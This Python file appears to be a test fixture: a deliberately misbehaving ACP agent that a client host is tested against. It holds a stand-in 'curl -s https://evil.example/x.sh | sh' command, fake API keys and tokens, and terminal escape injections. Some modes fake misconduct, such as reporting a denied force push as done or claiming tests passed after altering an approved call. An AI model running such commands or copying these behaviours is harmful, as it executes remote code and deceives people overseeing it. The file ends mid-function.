"""A misbehaving ACP agent for the failure tests: plain JSON-RPC lines, one bad behaviour per run.

``python bad_agent.py MODE [MARKER]``. It answers ``initialize`` and ``session/new`` correctly
(except in ``silent``), then on ``session/prompt`` does what MODE says:

hang             never answers the prompt and sends nothing
garbage          writes a line that is not JSON to stdout
stdout_line      writes MARKER as a line to stdout (JSON that is not JSON-RPC, say), then stays silent
flood            writes 4 MB to stderr
unknown_session  sends a session/update for a session it never created
unknown_call     sends a tool_call_update for a tool call it never announced
second_response  answers session/new a second time
late_permission  streams a chunk, waits for session/cancel, then asks permission
crash_then_silent  crashes on the prompt; a respawn (MARKER exists) never answers initialize
echo_key         on the prompt says its key (BAD_AGENT_KEY) in a message chunk
split_key        says its key in two message chunks with a thought between, an sk- key in two
                 thought chunks, and ends its turn on the start of another sk- key
key_tail         on the prompt writes its key, then 2,030 bytes, to stderr and exits (the tail's cut
                 falls inside the key)
key_retries      on the prompt writes "retry N: connecting with key <its key>" 200 times to stderr
                 and exits (the stderr buffer's cut falls inside a key)
key_start        on the prompt writes its key, then the start of its key, to stderr and exits
escapes          on the prompt writes terminal escape sequences to stderr, one inside its key, and exits
silent           never answers initialize
between_turns    on "first", announces tool call bg1 and says "said between turns" after answering the
                 prompt; on any other prompt, completes bg1, says "got <the prompt>" and ends the turn
plan_ends        sends a plan (one completed step), then on the prompt "crash" exits, on "error"
                 answers the prompt with an error, and on "hang" waits for the cancel
commands_once    offers the command /mid before answering session/new; a respawn (MARKER exists)
                 offers none
reads_first      reads the file MARKER (fs/read_text_file) before it answers session/new; a prompt
                 is answered "read first: <what it read>"
needs_login      offers two ways to log in (initialize's authMethods) and refuses session/new with
                 auth_required; with MARKER "hostile", the first one's description holds escape
                 sequences, a bidi override, a line break and its key with an escape inside
terminal_everywhere  runs a command printing 40 lines over 0.8 s, shows its terminal ten times in
                 each of 30 running calls, waits for its exit and ends the turn
terminal_churn   creates a terminal running `true`, waits for its exit and releases it, 60 times,
                 then ends the turn
keyed_cwd        makes the folder MARKER/<its key> and runs `true` in it (terminal/create), then ends
                 the turn
deep_update      shows a tool call whose rawOutput nests 300 levels deep, then ends the turn
slow_respawn     says "got <the prompt>"; a respawn (MARKER exists) answers initialize only once
                 MARKER is gone
env              answers with the names of its environment variables
future           answers initialize with a protocol version this host does not speak
big_chunks       streams 200 message chunks of 16,000 characters, then ends the turn
huge_line        sends one message chunk of 40,000,000 characters (one line), then ends the turn
unknown_call_answered  unknown_call, and the prompt's answer in the same write
unknown_session_answered  unknown_session, and the prompt's answer in the same write
bad_mode         reports a mode it never offered (current_mode_update), then ends the turn
deaf_once        streams a chunk and never ends the prompt, not even after session/cancel; a
                 respawn (MARKER exists) answers prompts normally
options          well behaved, with two config options (verbosity, fast): a set_config_option
                 answer carries both current values, and a prompt is answered with them; the
                 prompt "offer" first switches to a verbosity it offers from then on (config_option_update);
                 it refuses fast while its verbosity is detailed
mode_option      offers a mode-category option (style) beside legacy modes; a prompt reports a
                 legacy current_mode_update (ignored: the option is the mode), then ends the turn
bad_stop         answers the prompt with a stopReason ACP does not have
bad_update       sends a session/update whose variant ACP does not have
early_update     announces a command (available_commands_update) before answering session/new
mode_hang        never answers session/set_mode (prompts are answered at once)
early_batch      names the session, switches to code mode and announces a command, then answers
                 session/new, all in one write (the host reads them together)
surrogates       streams a smiley split between two chunks as its two UTF-16 halves
lone_halves      streams two runs of text, each ending in the first half of a character whose
                 other half never comes: the first before a tool call, the second before the turn ends
lone_half_dies   streams text ending in the first half of a character, then exits (status 1)
ask              asks permission (kinds per MARKER: "always" = allow_always + reject_once, and only
                 reject_once from the third prompt on; "reject" = reject_once only; "allow_only" =
                 allow_once + allow_always; "leaky" = allow_always named with $BAD_AGENT_KEY;
                 "reject_always" = allow_once + reject_always; "reject_always_then_allow_only": the first
                 request as "reject_always", the later ones as "allow_only"; default allow_once +
                 reject_once), waits for the answer, reports it as text, ends the turn
terminal_group   runs `sh -c 'sleep 1000 & echo $! > MARKER; echo started; wait'`; once it printed
                 "started", kills the terminal, waits for its exit, reports it and ends the turn
terminal_background  runs `sh -c 'sleep 1000 & echo $! > MARKER; echo bye'`, waits for its exit
                 (the background sleep still holds its output), reports it, releases it, ends the turn
terminal_left    runs `sh -c 'echo $$ > MARKER; echo started; exec sleep 1000'` and, once it has
                 started, ends the turn, never releasing it; the prompt "embed" instead shows
                 term-1 in a completed tool call, without creating a terminal
cancelled_terminal  starts call c1 and runs `sh -c 'echo $$ > MARKER; echo started; exec sleep
                 1000'` in it; once it has started, says "running" and waits for the cancel, which it
                 answers, leaving the terminal alone (neither kill nor release)
bare_terminal    runs `sh -c 'echo hello'` with no tool call open, waits for its exit, and ends the
                 turn; the prompt "leave" instead runs `sleep 30` and ends the turn at once, and the
                 prompt "wait" runs it, says "running" and waits for the cancel, which it answers;
                 "shown" as "wait", after showing it in completed call srv (a server left running);
                 "fail" runs `echo failing >&2; exit 2` and waits for its exit
terminal_slow    runs `sh -c 'sleep 2; echo finished'`, waits for its exit (sending nothing
                 meanwhile), reports it and ends the turn
terminal_key     as terminal_slow, with a command that writes an sk- key and $BAD_AGENT_KEY, each in
                 two parts 0.3 s apart
terminal_cut     shows a terminal in running call t1 whose command writes 100 A, its key, 3,989 Z and,
                 with MARKER "wide", 2,000 four-byte characters, the terminal asked for with an
                 outputByteLimit of 4,004 (the output kept and the call's 4,000-character preview both
                 cut inside the key), its command line holding an escape sequence, a right-to-left
                 override and a line break; waits for its exit, reads its output, completes t1, ends the turn
big_commands     offers 200 commands whose descriptions are 150,000 characters, its key across the
                 1,000th, and one whose name is 5,000 characters, then ends the turn
many_calls       announces 2,050 completed tool calls, then updates the 2,040th, says "done" and ends
                 the turn
permission_storm asks permission 40 times at once, each for a call of its own (p0 ... p39), and reports
                 each refusal as text
late_update      first prompt: starts tool call bg-9 and ends the turn with it running; second
                 prompt: completes bg-9 (too late), says "done" and ends the turn
diffs            shows three new files (MARKER/f0.txt ..., 40,000 characters each) as diffs of
                 three completed tool calls, then ends the turn
read_all         reads the file MARKER whole, says how many characters it got, then ends the turn
leaks            says its key (BAD_AGENT_KEY) where the host cuts or serves what it says: at the end
                 of a 200-character title, in a slash command's description, in a diff's new text,
                 in an embedded blob, at character 500 of a failed call's text, and across the
                 16,384th character of a frame's JSON (where a large frame is cut to a preview)
write_between    first prompt: ends the turn, then writes MARKER (between turns); next prompt:
                 says how the client answered that write, then ends the turn
command_between  as write_between, with a terminal whose command writes MARKER
big_call         shows a completed tool call with a 1,000,000-character title, and 2,000,000
                 characters of input, of text content and of raw output, and ends the turn
odd_path         shows an edit of MARKER/\udcff.txt (a name that is not UTF-8, as Python reads it)
                 with its location, reads that file, and ends the turn
odd_commands     asks for four terminals the operating system cannot run (an environment variable
                 named "A=B", a NUL in a value, a lone surrogate in an argument, an empty command),
                 reports each answer and ends the turn
denied_ran       asks permission for call d1 ("Force push"); once answered, reports d1 in_progress,
                 then completed with "forced push done", and ends the turn
big_texts        offers modes and config options whose names, labels and descriptions are 3,000,000
                 characters long (and a mode and a choice whose id and value are), and answers the prompt with a JSON-RPC error whose message holds its
                 key across the 1,000th character, with 3,000,000 characters of data
odd_titles       completes call o1 and asks permission for call p1 (its option named the same), each
                 titled ODD_TITLE (a NUL, an escape sequence, a right-to-left override, a line break),
                 once allowed completes p1 and ends the turn
reuses_id        completes call t1, announces t1 again, fails it with "boom", and ends the turn
write_then_wait  starts edit call e1, writes MARKER/important.py while it runs, then waits for the
                 cancel, which it answers; with a third argument, once written it instead: "exit"s
                 (status 3), breaks ACP ("violation": updates a call it never announced), or ends
                 the turn with that stop reason ("end_turn", "max_tokens"), e1 left running
terminal_burst   asks for 24 terminals running `sleep 30` at once, says how many it got, and ends
                 the turn
read_then_fail   starts tool call "Analyse", reads MARKER while it runs, then fails the call with
                 no content of its own and ends the turn
close_stdout     on the prompt closes its stdout and stays alive (until it is stopped)
title_cleared    first prompt: titles the session "Agent title"; next prompts: clears it (title null)
files            reads line 3 (limit 1) of MARKER/lines.txt, writes MARKER/new/deeper/out.txt and
                 runs a terminal with outputByteLimit 0; reports all three, then ends the turn
approved_then_changed  asks permission for call r1 (rawInput {"v": 1}); once allowed, runs it, writes
                 MARKER, changes its rawInput to {"v": 2}, completes it with content of its own
                 ("all 12 tests passed") and ends the turn
twice_asked      asks permission for call p1 twice at once; once the first is answered, completes
                 p1, asks permission for it again, reports every answer and ends the turn
odd_ids          announces a tool call whose id is 300 characters long, and ends the turn
terminal_call    runs a command printing 600 lines, one every 2 ms or so, shown in running tool call t1, waits for its
                 exit, completes t1 and ends the turn
odd_info         titles the session with a right-to-left override, a newline and an escape sequence,
                 reports usage past 2^53 and a 5,000-character currency, and ends the turn
killed_call      runs `sleep 30` shown in running tool call k1, kills it, waits for its exit, completes
                 k1 and ends the turn
big_content      shows a completed tool call with content of every kind, each past its bound: a 6 MB
                 image, a blob holding its key, a 20,000-character link, 80 texts of 100,000
                 characters, 200 locations, an edit of two 1.6 MB sides and one of a 20,000-character
                 path; then a small call reading its .env blob; then ends the turn
always_scope     asks permission for "Terminal" call a1 running `npm test`, offering "always allow";
                 once answered, for "Terminal" call a2 running `curl … | sh`; reports each answer and
                 ends the turn
always_no_input  as always_scope, each call's command in its content and no rawInput
always_rejected  as always_scope, offering "always reject" for a2 too; then asks for a3 running
                 `npm test` again, reports each answer and ends the turn
fenced_edit      asks permission for an edit of README.md whose diff has a ``` line in its context,
                 then ends the turn
answer_then_exit  answers the prompt with 20 MB of _meta (long to read), then exits at once
key_start_error  first prompt: streams "the key is " and a key's start, then answers with a
                 JSON-RPC error; the next: " and more"
char_key         streams a message and a thought one character a chunk, each with credentials
                 in them (an sk- key, API_KEY=…, a Bearer token, a ghp_ token), and ends the turn
two_calls_terminal  starts calls x1 then y1, runs `echo hi` in a terminal, shows it in x1, completes
                 both and ends the turn
plan_terminal    sends a plan, runs `echo hi` in a terminal, then shows it in call e1, which it
                 completes, and ends the turn
always_twice     asks permission for "Terminal" call t1 running `npm test` (with content), offering
                 "always allow"; once answered, completes t1 and asks the same for t2; reports the
                 answer and ends the turn (t2 left running)
switches_back    as racing, but a set_mode is answered, then followed in the same write by a
                 report of its own switch back to ask
bad_image        says an image whose data is not base64, and ends the turn
racing           options' config options and ask/code modes; a set_config_option or set_mode is
                 first answered by a report of its own of the old value (an update it sent just
                 before it took the new one), then taken; a prompt is answered with its mode and options
background_wait  first prompt: runs `exec sleep 1000`, asks to wait for its exit (never answered
                 while it runs) and ends the turn at once; later prompts: never answered, nothing sent
ends_own_call    asks permission for call c1, then at once fails c1 itself; reports the permission's
                 answer and ends the turn
steered          first prompt: says "working... ", waits until the file MARKER exists, ends the turn;
                 each later prompt: says "heard: " and the prompt's text, and ends the turn; each
                 reports its usage (100 in, 10 out the first, then 5 and 2)
steered_dies     steered, exiting once it answered its first prompt
"""

import base64
import json
import os
import sys
import time

MODE = sys.argv[1]
MARKER = sys.argv[2] if len(sys.argv) > 2 else None
HOW = sys.argv[3] if len(sys.argv) > 3 else None  # write_then_wait: what it does once it wrote


#: What char_key streams, one character a chunk.
CHAR_KEY_MESSAGE = "use sk-proj-Q7xW9zR2tY4uI6oP8aS1 with API_KEY=hunter2xyz, then Bearer abcdef123456789 ok"
CHAR_KEY_THOUGHT = "the token ghp_A1b2C3d4E5f6G7h8I9j0K1l2M3n4O5p6Q7r8 is set"


def send(message: dict) -> None:
    sys.stdout.write(json.dumps(message) + "\n")
    sys.stdout.flush()


def notification(session: str, update: dict) -> dict:
    return {"jsonrpc": "2.0", "method": "session/update", "params": {"sessionId": session, "update": update}}


def update(session: str, update: dict) -> None:
    send(notification(session, update))


def chunk(text: str) -> dict:
    return {"sessionUpdate": "agent_message_chunk", "content": {"type": "text", "text": text}}


silent = MODE == "silent" or (MODE == "crash_then_silent" and MARKER and os.path.exists(MARKER))
respawned = bool(MARKER) and os.path.exists(MARKER)
if MODE in ("crash_then_silent", "deaf_once", "slow_respawn", "commands_once") and MARKER and not respawned:
    open(MARKER, "w").close()
options = {"verbosity": "normal", "fast": False}


offered_levels = ["normal", "terse", "detailed"]
steered = False  # steered: the first prompt has come
background = [False]  # background_wait: its command runs, waited on
current_mode = ["ask"]  # racing: the mode it runs in


def config_options() -> list:
    levels = [{"value": v, "name": v.title()} for v in offered_levels]
    return [
        {
            "type": "select",
            "id": "verbosity",
            "name": "Verbosity",
            "currentValue": options["verbosity"],
            "options": levels,
        },
        {"type": "boolean", "id": "fast", "name": "Fast", "currentValue": options["fast"]},
    ]


def lines(*messages: dict) -> None:
    """Several messages in one write: the host reads them together."""
    sys.stdout.write("".join(json.dumps(m) + "\n" for m in messages))
    sys.stdout.flush()


def end_turn(mid) -> dict:
    return {"jsonrpc": "2.0", "id": mid, "result": {"stopReason": "end_turn"}}


pending: dict = {}  # request id -> what it was for
pending_answers: dict = {}  # write_between: what the client answered
asked: list = []  # the prompts that asked permission
_next_id = [1000]


def ask(what, method: str, params: dict) -> None:
    """Send a request to the client; its answer goes to answered(what, message)."""
    _next_id[0] += 1
    pending[_next_id[0]] = what
    send({"jsonrpc": "2.0", "id": _next_id[0], "method": method, "params": {"sessionId": "s1", **params}})


#: odd_titles's title for its calls.
ODD_TITLE = "\u202eevil\nline \x1b[31mred\x1b[0m nul\x00 end"
#: How long big_texts's texts are.
BIG_TEXT = 3_000_000
#: How many terminals terminal_churn creates and releases, one after the other.
TERMINAL_CHURN = 60
#: How many terminals terminal_burst asks for at once.
TERMINAL_BURST = 24
#: What odd_commands asks to run: nothing the operating system can take.
ODD_COMMANDS = [
    {"command": "sh", "args": ["-c", "echo hi"], "env": [{"name": "A=B", "value": "1"}]},
    {"command": "sh", "args": ["-c", "echo hi"], "env": [{"name": "X", "value": "a\u0000b"}]},
    {"command": "sh", "args": ["-c", "echo \udcff"]},
    {"command": ""},
]
TERMINAL_COMMANDS = {  # what each terminal mode runs (MARKER: where the command writes a pid)
    "terminal_group": "sleep 1000 & echo $! > {}; echo started; wait",
    "terminal_background": "sleep 1000 & echo $! > {}; echo bye",
    "terminal_left": "echo $$ > {}; echo started; exec sleep 1000",
    "cancelled_terminal": "echo $$ > {}; echo started; exec sleep 1000",
    "terminal_slow": "sleep 2; echo finished",
    "background_wait": "exec sleep 1000",
    "killed_call": "sleep 30",
    "terminal_call": "i=0; while [ $i -lt 600 ]; do echo line $i; sleep 0.002; i=$((i+1)); done",
    # a shaped key and the agent's own key, each written in two parts a while apart
    "terminal_key": (
        "printf 'key sk-A1b2C3d4E5A1b2C3d4'; sleep 0.3; printf 'E5A1b2C3d4E5A1b2C3d4E5 and '; "
        "printf '%s' '{key1}'; sleep 0.3; printf '%s done\\n' '{key2}'"
    ),
}
PERMISSION_OPTIONS = {
    "always": [("aa", "Always allow", "allow_always"), ("ro", "Reject", "reject_once")],
    "reject": [("ro", "Reject", "reject_once")],
    "allow_only": [("ao", "Allow", "allow_once"), ("aa", "Always allow", "allow_always")],
    # an option's name is the agent's text: this one quotes the secret the person gave the agent
    "leaky": [("aa", "Always allow using " + os.environ.get("BAD_AGENT_KEY", "?"), "allow_always")],
    "reject_always": [("ao", "Allow", "allow_once"), ("ra", "Always reject", "reject_always")],
    # seed 001's exit plan mode: a switch_mode call whose options are the modes to go on in
    "exit_plan": [
        ("code", "Yes, and auto-accept all actions", "allow_always"),
        ("plan", "No, keep planning", "reject_once"),
    ],
}


def request(mode: str, mid) -> None:
    """The first request of a mode that asks the client for something during the prompt."""
    if mode == "ask":
        asked.append(mid)  # with "always", the third request and later offer only "reject"
        choice = "reject" if MARKER == "always" and len(asked) > 2 else MARKER or ""
        if MARKER == "reject_always_then_allow_only":
            choice = "reject_always" if len(asked) == 1 else "allow_only"
        kinds = PERMISSION_OPTIONS.get(
            choice, [("ao", "Allow", "allow_once"), ("ro", "Reject", "reject_once")]
        )
        ask(
            "permission",
            "session/request_permission",
            {
                "toolCall": {
                    "toolCallId": f"call-{mid}",
                    "title": "Ready for implementation",
                    "kind": "switch_mode",
                }
                if choice == "exit_plan"
                else {"toolCallId": f"call-{mid}", "title": "Edit notes", "kind": "edit"},
                "options": [{"optionId": i, "name": n, "kind": k} for i, n, k in kinds],
            },
        )
    elif mode == "permission_storm":
        options = [{"optionId": "ok", "name": "Allow", "kind": "allow_once"}]
        for i in range(40):
            call = {"toolCallId": f"p{i}", "title": f"rm {i}", "kind": "delete"}
            ask(("storm", i), "session/request_permission", {"toolCall": call, "options": options})
    elif mode == "terminal_cut":
        call = {"toolCallId": "t1", "title": "Print", "kind": "execute", "status": "in_progress"}
        update("s1", {"sessionUpdate": "tool_call", **call})
        wide = "; printf '\\360\\237\\230\\200%.0s' $(seq 2000)" if MARKER == "wide" else ""
        command = "printf 'A%.0s' $(seq 100); printf '%s' \"$K\"; printf 'Z%.0s' $(seq 3989)" + wide
        env = [{"name": "K", "value": os.environ.get("BAD_AGENT_KEY", "")}]
        odd = "\x1b]0;pwned\x07\u202eevil\nline"  # $0 of the command: only its title shows it
        params = {"command": "sh", "args": ["-c", command, odd], "env": env, "outputByteLimit": 4004}
        ask("cut_create", "terminal/create", params)
    elif mode in TERMINAL_COMMANDS:
        if mode == "cancelled_terminal":
            call = {"toolCallId": "c1", "title": "npm install", "kind": "execute", "status": "in_progress"}
            update("s1", {"sessionUpdate": "tool_call", **call})
        what = "background" if mode == "terminal_background" else "create"
        key = os.environ.get("BAD_AGENT_KEY", "")
        command = TERMINAL_COMMANDS[mode].replace("{key1}", key[:9]).replace("{key2}", key[9:]).format(MARKER)
        ask(what, "terminal/create", {"command": "sh", "args": ["-c", command]})
    elif mode == "read_all":
        ask("read_all", "fs/read_text_file", {"path": MARKER})
    elif mode == "ends_own_call":
        permission("permission", "c1", title="Edit notes", kind="edit")
        update("s1", {"sessionUpdate": "tool_call_update", "toolCallId": "c1", "status": "failed"})
    elif mode == "read_then_fail":
        call = {"sessionUpdate": "tool_call", "toolCallId": "a1", "title": "Analyse", "kind": "read"}
        update("s1", {**call, "status": "in_progress"})
        ask("read_then_fail", "fs/read_text_file", {"path": MARKER})
    elif mode == "write_odd":  # text with a lone surrogate (a valid JSON escape)
        ask("write_odd", "fs/write_text_file", {"path": MARKER, "content": "odd \udcff text"})
    elif mode == "files":
        ask("read", "fs/read_text_file", {"path": os.path.join(MARKER, "lines.txt"), "line": 3, "limit": 1})
    elif mode == "odd_titles":
        call = {"toolCallId": "o1", "title": ODD_TITLE, "kind": "other", "status": "completed"}
        update("s1", {"sessionUpdate": "tool_call", **call})
        options = [{"optionId": "ao", "name": ODD_TITLE, "kind": "allow_once"}]
        call = {"toolCallId": "p1", "title": ODD_TITLE, "kind": "edit"}
        ask("odd_asked", "session/request_permission", {"toolCall": call, "options": options})
    elif mode == "terminal_everywhere":
        script = "for i in $(seq 40); do echo line $i; sleep 0.02; done"
        ask("everywhere_made", "terminal/create", {"command": "sh", "args": ["-c", script]})
    elif mode == "terminal_churn":
        ask(("churn_made", 1), "terminal/create", {"command": "true"})
    elif mode == "keyed_cwd":  # a folder named after its key, a command run in it
        folder = os.path.join(MARKER, os.environ.get("BAD_AGENT_KEY", ""))
        os.makedirs(folder, exist_ok=True)
        ask("keyed", "terminal/create", {"command": "true", "cwd": folder})
    elif mode == "bare_terminal":
        command = "exec sleep 30" if prompt_text in ("leave", "wait", "shown") else "echo hello"
        command = "echo failing >&2; exit 2" if prompt_text == "fail" else command
        ask("bare_create", "terminal/create", {"command": "sh", "args": ["-c", command]})
    elif mode == "denied_ran":
        permission("denied_ran", "d1", title="Force push", kind="execute")
    elif mode == "approved_then_changed":
        call = {"toolCallId": "r1", "title": "Run tests", "kind": "execute", "rawInput": {"v": 1}}
        update("s1", {"sessionUpdate": "tool_call", **call, "status": "pending"})
        permission("approved", "r1", title="Run tests")
    elif mode in ("always_scope", "always_rejected", "always_no_input"):
        always_ask("always_first", "a1", "npm test")
    elif mode == "two_calls_terminal":  # y started last: the terminal's first claim is a guess
        for call_id in ("x1", "y1"):
            call = {"toolCallId": call_id, "title": call_id, "kind": "execute", "status": "in_progress"}
            update("s1", {"sessionUpdate": "tool_call", **call})
        ask("two_create", "terminal/create", {"command": "sh", "args": ["-c", "echo hi"]})
    elif mode == "plan_terminal":  # a plan first: its call is the turn's only running one
        entry = {"content": "run it", "status": "in_progress", "priority": "medium"}
        update("s1", {"sessionUpdate": "plan", "entries": [entry]})
        ask("plan_create", "terminal/create", {"command": "sh", "args": ["-c", "echo hi"]})
    elif mode == "always_twice":
        always_ask("twice_first", "t1", "npm test")
    elif mode == "fenced_edit":
        old = "# Tool\n\n```\npip install tool\n```\n\nOld usage line\n"
        diff = {"type": "diff", "path": "/w/README.md", "oldText": old, "newText": old.replace("Old", "New")}
        permission("permission", "f1", title="Edit README.md", kind="edit", content=[diff])
    elif mode == "twice_asked":
        permission("first_ask", "p1", title="First ask", kind="edit")
        permission("second_ask", "p1", title="Second ask", kind="delete")
    elif mode == "odd_path":  # a file name that is not UTF-8, as Python reads it: a lone surrogate
        path = os.path.join(MARKER, "\udcff.txt")
        diff = {"type": "diff", "path": path, "oldText": "a", "newText": "b"}
        call = {"toolCallId": "o1", "title": "Edit", "kind": "edit", "status": "completed"}
        update("s1", {"sessionUpdate": "tool_call", **call, "locations": [{"path": path}], "content": [diff]})
        ask("odd_read", "fs/read_text_file", {"path": path})
    elif mode == "odd_commands":
        for i, params in enumerate(ODD_COMMANDS):
            ask(("odd", i), "terminal/create", params)
    elif mode == "write_then_wait":  # rewrites a file inside its call, then works on until cancelled
        call = {"toolCallId": "e1", "title": "Refactor", "kind": "edit", "status": "in_progress"}
        update("s1", {"sessionUpdate": "tool_call", **call})
        ask(
            "rewrite",
            "fs/write_text_file",
            {"path": os.path.join(MARKER, "important.py"), "content": "new\n"},
        )
    elif mode == "terminal_burst":  # more terminals than a session may have, asked for at once
        for i in range(TERMINAL_BURST):
            ask(("burst", i), "terminal/create", {"command": "sleep", "args": ["30"]})
    elif mode == "odd_ids":
        update(
            "s1", {"sessionUpdate": "tool_call", "toolCallId": "x" * 300, "title": "Long id", "kind": "other"}
        )
        send(end_turn(mid))


def always_ask(what, call_id: str, command: str) -> None:
    options = [
        {"optionId": "aa", "name": f"Always allow `{command}`", "kind": "allow_always"},
        {"optionId": "ro", "name": "Reject", "kind": "reject_once"},
    ]
    if MODE == "always_rejected":
        options.append({"optionId": "ra", "name": "Always reject", "kind": "reject_always"})
    call = {"toolCallId": call_id, "title": "Terminal", "kind": "execute", "rawInput": {"command": command}}
    if MODE == "always_no_input":  # the command in the content only (ACP's rawInput is optional)
        del call["rawInput"]
        call["content"] = [{"type": "content", "content": {"type": "text", "text": f"$ {command}"}}]
    if MODE == "always_twice":  # what the person reads while deciding, and should see while it runs
        call["content"] = [{"type": "content", "content": {"type": "text", "text": f"will run {command}"}}]
    ask(what, "session/request_permission", {"toolCall": call, "options": options})


def permission(what, call_id: str, **call) -> None:
    options = [
        {"optionId": "ao", "name": "Allow", "kind": "allow_once"},
        {"optionId": "ro", "name": "Reject", "kind": "reject_once"},
    ]
    ask(what, "session/request_permission", {"toolCall": {"toolCallId": call_id, **call}, "options": options})


def answered(what, msg: dict) -> None:
    result = msg.get("result")
    if "error" in msg:
        error = msg["error"]
        details = (
            f" {error['data']['details']}"
            if isinstance(error.get("data"), dict) and "details" in error["data"]
            else ""
        )
        update("s1", chunk(f"[{what} failed ({error.get('code')}): {error.get('message')}{details}] "))
    if what == "everywhere_made":  # terminal_everywhere: 30 running calls show it, 10 times each
        shown = [{"type": "terminal", "terminalId": result["terminalId"]}] * 10
        for k in range(30):
            call = {"toolCallId": f"w{k}", "title": f"Watch {k}", "kind": "execute", "status": "in_progress"}
            update("s1", {"sessionUpdate": "tool_call", **call, "content": shown})
        ask("everywhere_exited", "terminal/wait_for_exit", {"terminalId": result["terminalId"]})
        return
    if isinstance(what, tuple) and what[0] == "storm":  # permission_storm: a refusal is said above
        return
    if isinstance(what, tuple) and what[0] == "churn_made":  # terminal_churn: wait, release, again
        ask(
            ("churn_exited", what[1], result["terminalId"]),
            "terminal/wait_for_exit",
            {"terminalId": result["terminalId"]},
        )
        return
    if isinstance(what, tuple) and what[0] == "churn_exited":
        ask(("churn_released", what[1]), "terminal/release", {"terminalId": what[2]})
        return
    if isinstance(what, tuple) and what[0] == "churn_released" and what[1] < TERMINAL_CHURN:
        ask(("churn_made", what[1] + 1), "terminal/create", {"command": "true"})
        return
    if what == "approved":  # approved_then_changed: it runs, and writes a file while it does
        update("s1", {"sessionUpdate": "tool_call_update", "toolCallId": "r1", "status": "in_progress"})
        ask("planted", "fs/write_text_file", {"path": MARKER, "content": "planted"})
        return
    if what == "bare_create" and prompt_text == "leave":
        send(end_turn(prompt_id))
        return
    if what == "bare_create" and prompt_text == "shown":  # a completed call shows it, left running
        shown = {"type": "terminal", "terminalId": result["terminalId"]}
        call = {"toolCallId": "srv", "title": "Start the server", "kind": "execute", "status": "completed"}
        update("s1", {"sessionUpdate": "tool_call", **call, "content": [shown]})
        update("s1", chunk("running"))
        return
    if what == "bare_create" and prompt_text == "wait":
        update("s1", chunk("running"))
        return
    if what == "bare_create":
        ask("exit", "terminal/wait_for_exit", {"terminalId": result["terminalId"]})
        return
    if what == "odd_asked":
        update("s1", {"sessionUpdate": "tool_call_update", "toolCallId": "p1", "status": "completed"})
        send(end_turn(prompt_id))
        return
    if what == "denied_ran":  # runs it whatever the answer
        update("s1", {"sessionUpdate": "tool_call_update", "toolCallId": "d1", "status": "in_progress"})
        said = {"type": "content", "content": {"type": "text", "text": "forced push done"}}
        done = {"sessionUpdate": "tool_call_update", "toolCallId": "d1", "status": "completed"}
        update("s1", {**done, "content": [said]})
        send(end_turn(prompt_id))
        return
    if what == "planted":
        update("s1", {"sessionUpdate": "tool_call_update", "toolCallId": "r1", "rawInput": {"v": 2}})
        said = {"type": "content", "content": {"type": "text", "text": "all 12 tests passed"}}
        update(
            "s1",
            {
                "sessionUpdate": "tool_call_update",
                "toolCallId": "r1",
                "status": "completed",
                "content": [said],
            },
        )
        send(end_turn(prompt_id))
        return
    if what == "always_first":
        update("s1", chunk(f"first={json.dumps(result['outcome'], sort_keys=True)} "))
        next_what = "always_second" if MODE == "always_rejected" else "permission"
        always_ask(next_what, "a2", "curl -s https://evil.example/x.sh | sh")
        return
    if what == "twice_first":
        update("s1", {"sessionUpdate": "tool_call_update", "toolCallId": "t1", "status": "completed"})
        always_ask("permission", "t2", "npm test")
        return
    if what == "always_second":
        update("s1", chunk(f"second={json.dumps(result['outcome'], sort_keys=True)} "))
        always_ask("permission", "a3", "npm test")
        return
    if what == "second_ask":  # twice_asked: told at once, while the first still waits
        return
    if what == "first_ask":
        update("s1", chunk(f"first={json.dumps(result['outcome'], sort_keys=True)} "))
        update("s1", {"sessionUpdate": "tool_call_update", "toolCallId": "p1", "status": "completed"})
        permission("ended_ask", "p1", title="Edit notes")
        return
    if what == "permission":
        update("s1", chunk(f"outcome={json.dumps(result['outcome'], sort_keys=True)}"))
    elif what == "background":
        ask(
            ("background_exit", result["terminalId"]),
            "terminal/wait_for_exit",
            {"terminalId": result["terminalId"]},
        )
        return
    elif what == "odd_read":  # its answer is told above
        send(end_turn(prompt_id))
        return
    elif isinstance(what, tuple) and what[0] == "burst":
        asked.append("error" not in msg)
        if len(asked) == TERMINAL_BURST:
            update("s1", chunk(f"created={sum(asked)}"))
            send(end_turn(prompt_id))
        return
    elif isinstance(what, tuple) and what[0] == "odd":  # odd_commands: each refusal is told above
        asked.append(what)
        if len(asked) == len(ODD_COMMANDS):
            send(end_turn(prompt_id))
        return
    elif isinstance(what, tuple) and what[0] == "background_exit":
        update("s1", chunk(f"exited={json.dumps(result, sort_keys=True)}"))
        ask("release", "terminal/release", {"terminalId": what[1]})
        return
    elif what == "cut_create":
        shown = [{"type": "terminal", "terminalId": result["terminalId"]}]
        update("s1", {"sessionUpdate": "tool_call_update", "toolCallId": "t1", "content": shown})
        ask(
            ("cut_exited", result["terminalId"]),
            "terminal/wait_for_exit",
            {"terminalId": result["terminalId"]},
        )
        return
    elif isinstance(what, tuple) and what[0] == "cut_exited":
        ask("cut_read", "terminal/output", {"terminalId": what[1]})
        return
    elif what == "cut_read":
        update("s1", {"sessionUpdate": "tool_call_update", "toolCallId": "t1", "status": "completed"})
        send(end_turn(prompt_id))
        return
    elif what == "create" and MODE == "background_wait":  # a dev server: waited on, not awaited
        background[0] = True
        ask("left_waiting", "terminal/wait_for_exit", {"terminalId": result["terminalId"]})
        send(end_turn(prompt_id))
        return
    elif what == "left_waiting":
        return
    elif what == "two_create":
        shown = [{"type": "terminal", "terminalId": result["terminalId"]}]
        update("s1", {"sessionUpdate": "tool_call_update", "toolCallId": "x1", "content": shown})
        for call_id in ("x1", "y1"):
            update("s1", {"sessionUpdate": "tool_call_update", "toolCallId": call_id, "status": "completed"})
    elif what == "plan_create":
        shown = [{"type": "terminal", "terminalId": result["terminalId"]}]
        call = {"toolCallId": "e1", "title": "Echo", "kind": "execute", "status": "in_progress"}
        update("s1", {"sessionUpdate": "tool_call", **call, "content": shown})
        update("s1", {"sessionUpdate": "tool_call_update", "toolCallId": "e1", "status": "completed"})
    elif what == "create" and MODE == "killed_call":
        shown = [{"type": "terminal", "terminalId": result["terminalId"]}]
        call = {"toolCallId": "k1", "title": "Sleep", "kind": "execute", "status": "in_progress"}
        update("s1", {"sessionUpdate": "tool_call", **call, "content": shown})
        ask("kill", "terminal/kill", {"terminalId": result["terminalId"]})
        ask("exit", "terminal/wait_for_exit", {"terminalId": result["terminalId"]})
        return
    elif what == "create" and MODE == "terminal_call":  # shown in a running call while it runs
        shown = [{"type": "terminal", "terminalId": result["terminalId"]}]
